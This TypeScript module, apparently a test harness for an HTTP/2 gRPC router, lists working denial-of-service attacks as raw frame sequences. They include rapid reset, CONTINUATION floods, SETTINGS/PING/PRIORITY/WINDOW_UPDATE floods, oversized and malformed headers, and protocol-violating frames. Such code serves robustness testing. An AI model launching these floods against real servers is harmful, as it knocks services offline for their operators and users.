/** Attacks of hostile clients, each as bytes on a connection after the preface. */
import { EMPTY_AUTHORITY, encodeHeaders, type HeaderField } from '../support/hpack.ts';
import {
  ErrorCode,
  encodeFrame,
  Flag,
  FrameType,
  pingFrame,
  rstStream,
  settingsFrame,
  windowUpdate,
} from '../support/http2-frames.ts';
import type { RawConnection } from '../support/raw-connection.ts';

const BASIC: readonly HeaderField[] = [
  [':method', 'POST'],
  [':path', '/router/p2p'],
  [':scheme', 'http'],
];
const NAMED = encodeHeaders([...BASIC, [':authority', 'x'], ['content-type', 'application/grpc'], ['te', 'trailers']]);
/** The same flood with requests that pass the authority rewriter of grpc-js. */
const UNNAMED = encodeHeaders([
  ...BASIC,
  EMPTY_AUTHORITY.newName,
  ['content-type', 'application/grpc'],
  ['te', 'trailers'],
]);

const headersFrame = (streamId: number, block = NAMED, flags: number = Flag.endHeaders): Buffer =>
  encodeFrame(FrameType.headers, flags, streamId, block);
export const dataFrame = (streamId: number, payload = Buffer.alloc(0), flags = 0): Buffer =>
  encodeFrame(FrameType.data, flags, streamId, payload);
/** `count` frames in one buffer. */
const many = (count: number, frame: (n: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, n) => frame(n)));
const streamId = (n: number): number => 2 * n + 1;

/** Writes until everything is sent or the router closes the connection; reads as little as possible. */
export async function flood(attacker: RawConnection, chunks: Iterable<Buffer>): Promise<void> {
  for (const chunk of chunks) {
    if (attacker.closed) return;
    if (attacker.socket.write(chunk)) continue;
    const drained = new Promise((resolve) => attacker.socket.once('drain', resolve));
    await Promise.race([drained, attacker.whenClosed]);
  }
}

function* repeat(times: number, chunk: (n: number) => Buffer): Generator<Buffer> {
  for (let n = 0; n < times; n++) yield chunk(n);
}

export const ATTACKS: readonly (readonly [string, (attacker: RawConnection) => Promise<void>])[] = [
  [
    'rapid reset: 50,000 streams opened and reset at once',
    (attacker) =>
      flood(
        attacker,
        repeat(500, (round) =>
          many(100, (n) => {
            const id = streamId(round * 100 + n);
            return Buffer.concat([headersFrame(id), rstStream(id, ErrorCode.cancel)]);
          }),
        ),
      ),
  ],
  [
    'rapid reset with an empty authority',
    (attacker) =>
      flood(
        attacker,
        repeat(200, (round) =>
          many(100, (n) => {
            const id = streamId(round * 100 + n);
            return Buffer.concat([headersFrame(id, UNNAMED), rstStream(id, ErrorCode.cancel)]);
          }),
        ),
      ),
  ],
  [
    '10,000 streams opened and kept',
    (attacker) =>
      flood(
        attacker,
        repeat(100, (r) => many(100, (n) => headersFrame(streamId(r * 100 + n)))),
      ),
  ],
  [
    'CONTINUATION flood: a header block of 64 MiB without an end',
    async (attacker) => {
      await flood(attacker, [headersFrame(1, NAMED, 0)]);
      const piece = encodeFrame(FrameType.continuation, 0, 1, encodeHeaders([['x-filler', 'y'.repeat(16_000)]]));
      await flood(
        attacker,
        repeat(4096, () => piece),
      );
    },
  ],
  [
    'CONTINUATION flood with an empty authority, in empty frames',
    async (attacker) => {
      await flood(attacker, [headersFrame(1, UNNAMED, 0)]);
      const piece = many(1000, () => encodeFrame(FrameType.continuation, 0, 1, Buffer.alloc(0)));
      await flood(
        attacker,
        repeat(500, () => piece),
      );
    },
  ],
  [
    'SETTINGS flood',
    (attacker) =>
      flood(
        attacker,
        repeat(500, () => many(200, () => settingsFrame({ 4: 65535 }))),
      ),
  ],
  [
    'PING flood by one who does not read the answers',
    (attacker) => {
      attacker.stopReading();
      return flood(
        attacker,
        repeat(1000, () => many(200, () => pingFrame(Buffer.alloc(8)))),
      );
    },
  ],
  [
    'PRIORITY flood',
    (attacker) =>
      flood(
        attacker,
        repeat(500, () =>
          many(200, (n) => encodeFrame(FrameType.priority, 0, streamId(n), Buffer.from([0, 0, 0, 0, 16]))),
        ),
      ),
  ],
  [
    'WINDOW_UPDATE flood',
    async (attacker) => {
      await flood(attacker, [headersFrame(1)]);
      await flood(
        attacker,
        repeat(500, () => many(200, () => windowUpdate(1, 1))),
      );
    },
  ],
  [
    'a window beyond 2^31',
    (attacker) => flood(attacker, [headersFrame(1), windowUpdate(0, 0x7fffffff), windowUpdate(1, 0x7fffffff)]),
  ],
  [
    'a WINDOW_UPDATE with increment 0',
    (attacker) => flood(attacker, [headersFrame(1), windowUpdate(1, 0), windowUpdate(0, 0)]),
  ],
  [
    'DATA on streams that were never opened',
    (attacker) =>
      flood(
        attacker,
        repeat(100, (n) => dataFrame(streamId(n), Buffer.alloc(100))),
      ),
  ],
  ['DATA on stream 0', (attacker) => flood(attacker, [dataFrame(0, Buffer.alloc(10))])],
  [
    'DATA on a stream that is half-closed',
    (attacker) => flood(attacker, [headersFrame(1, NAMED, 5), ...repeat(100, () => dataFrame(1, Buffer.alloc(1000)))]),
  ],
  [
    'DATA beyond the window',
    (attacker) => flood(attacker, [headersFrame(1), ...repeat(64, () => dataFrame(1, Buffer.alloc(16_384)))]),
  ],
  [
    'empty DATA flood',
    (attacker) => flood(attacker, [headersFrame(1), ...repeat(500, () => many(500, () => dataFrame(1)))]),
  ],
  [
    'padding only',
    (attacker) =>
      flood(attacker, [
        headersFrame(1),
        ...repeat(200, () => dataFrame(1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]), Flag.padded)),
      ]),
  ],
  [
    'streams with numbers that fall',
    (attacker) => flood(attacker, [headersFrame(99), headersFrame(1), headersFrame(97)]),
  ],
  ['streams with even numbers', (attacker) => flood(attacker, [headersFrame(2), headersFrame(4)])],
  [
    'a frame larger than allowed',
    (attacker) => flood(attacker, [headersFrame(1), dataFrame(1, Buffer.alloc(200_000))]),
  ],
  [
    'headers that HPACK cannot read',
    (attacker) =>
      flood(
        attacker,
        repeat(20, (n) => headersFrame(streamId(n), Buffer.alloc(40, 0xff))),
      ),
  ],
  [
    'headers of a megabyte in one request',
    (attacker) => {
      const block = encodeHeaders([
        ...BASIC,
        [':authority', 'x'],
        ...Array.from({ length: 64 }, (_, n): HeaderField => [`x-${n}`, 'v'.repeat(16_000)]),
      ]);
      const pieces = Array.from({ length: Math.ceil(block.length / 16_000) }, (_, n) =>
        block.subarray(n * 16_000, (n + 1) * 16_000),
      );
      return flood(
        attacker,
        pieces.map((piece, n) => {
          const last = n === pieces.length - 1 ? Flag.endHeaders : 0;
          return n === 0 ? headersFrame(1, piece, last) : encodeFrame(FrameType.continuation, last, 1, piece);
        }),
      );
    },
  ],
  [
    '10,000 small headers in one request',
    (attacker) =>
      flood(attacker, [
        headersFrame(1, encodeHeaders([...BASIC, ...Array.from({ length: 1200 }, (): HeaderField => ['a', 'b'])])),
      ]),
  ],
  [
    'PUSH_PROMISE and unknown frames',
    (attacker) =>
      flood(attacker, [
        headersFrame(1),
        encodeFrame(0x77, 0, 0, Buffer.alloc(100)),
        encodeFrame(FrameType.pushPromise, 4, 1, Buffer.alloc(20)),
      ]),
  ],
  [
    'requests without the headers that are needed',
    (attacker) =>
      flood(
        attacker,
        repeat(50, (n) => headersFrame(streamId(n), encodeHeaders([['x', 'y']]), 5)),
      ),
  ],
  [
    'other methods and paths',
    (attacker) =>
      flood(
        attacker,
        ['GET', 'CONNECT', 'OPTIONS', ''].map((method, n) =>
          headersFrame(
            streamId(n),
            encodeHeaders([
              [':method', method],
              [':path', `/${'a/'.repeat(3000)}`],
              [':scheme', 'http'],
              [':authority', 'x'],
            ]),
            5,
          ),
        ),
      ),
  ],
];
